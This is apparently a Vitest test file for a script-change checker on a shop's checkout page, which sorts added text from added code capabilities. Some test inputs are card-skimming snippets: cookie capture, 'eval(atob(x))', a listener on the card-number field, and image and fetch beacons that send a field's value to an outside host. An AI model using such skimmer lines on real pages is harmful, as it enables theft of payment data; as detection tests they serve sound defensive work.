// Text added for people to read is not a new capability, and code and selectors do not pass as such text.

import { sayReason } from '@tillwatch/messages/changes'
import { describe, expect, it } from 'vitest'
import { compareScripts } from '#changes/index.ts'

const shop = `var t = { pay: "Pay", total: "Total" };
function say(el, what) { el.textContent = t[what] || what; }
document.getElementById("go").addEventListener("click", function () { say(window.hint, "total") });
`
const changed = (added: string) => compareScripts(shop, shop + added, { party: 'first', host: 'tea.example' })

describe('texts for people', () => {
  it.each([
    'say(hint, "Card number");',
    'say(hint, "Invalid security code (CVV)");',
    't.exp = "Expiry date";',
    't.help = ["Where is my CVC?", "On the back of your card", "Password forgotten?"];',
    'say(hint, "Close this window. Then begin again from the cart.");',
    'say(hint, "Sign the document [page 2] and send it in.");',
    'say(hint, "We fetch (once a day) the rates of the bank.");',
    'if (shop.lang === "de") say(hint, "Kartennummer ungültig"); else say(hint, "Card number is not valid");',
    't.a = "Número de tarjeta"; t.b = "¿Dónde está el código de seguridad?";',
    'say(hint, "Ask at https://tea-help.example/ask for it.");',
    'say(hint, "Your card was declined. Please call your bank.");',
  ])('that are added are a release, not a capability: %s', (added) => {
    expect(changed(added).verdict).toBe('release')
  })

  it.each([
    'say(hint, "#card-number");',
    'find("input[name=cvc]");',
    'find("cardnumber");',
    'find("card_number");',
    'run("Window.x = document.cookie");',
    'run("eval(atob(x))");',
    'run("Fetch the page; fetch(u)");',
    'find("Card number"); document.querySelector("#cc-number").addEventListener("keyup", say);',
    'say(hint, "Card number"); new Image().src = "https://tea-help.example/?" + document.querySelector("input").value;',
  ])('do not cover text that code uses: %s', (added) => {
    expect(['capability', 'malicious']).toContain(changed(added).verdict)
  })
})

describe('the source of a function', () => {
  it.each([
    'new Worker(({ startTime: t }) => { list.push(t.js ? 1 : 2) });',
    'import((t) => { list.x(t, "a.js") });',
    'var f = document.createElement("iframe"); f.src = cb => cb("x.html"); document.body.append(f);',
    'var s = document.createElement("script"); s.src = "" + function (t) { return t.list.min.js }; document.head.append(s);',
    'fetch(async function (t) { return t.page.json });',
  ])('is not an address that anything is loaded from: %s', (added) => {
    const { reasons } = changed(added)
    expect(reasons.filter(({ code }) => code === 'new-load' || code === 'new-contact')).toEqual([])
    expect(reasons.map((reason) => sayReason(reason, 'en')).join(' ')).not.toMatch(/=>|function/)
  })

  it('hides no data sent with it, and no address beside it', () => {
    const card = 'document.querySelector("#cc-number").value'
    expect(changed(`fetch((() => 1) + ${card});`).verdict).toBe('capability')
    expect(changed('new Worker((() => "/w.js")());').reasons).toContainEqual(expect.objectContaining({ code: 'new-load' }))
  })
})
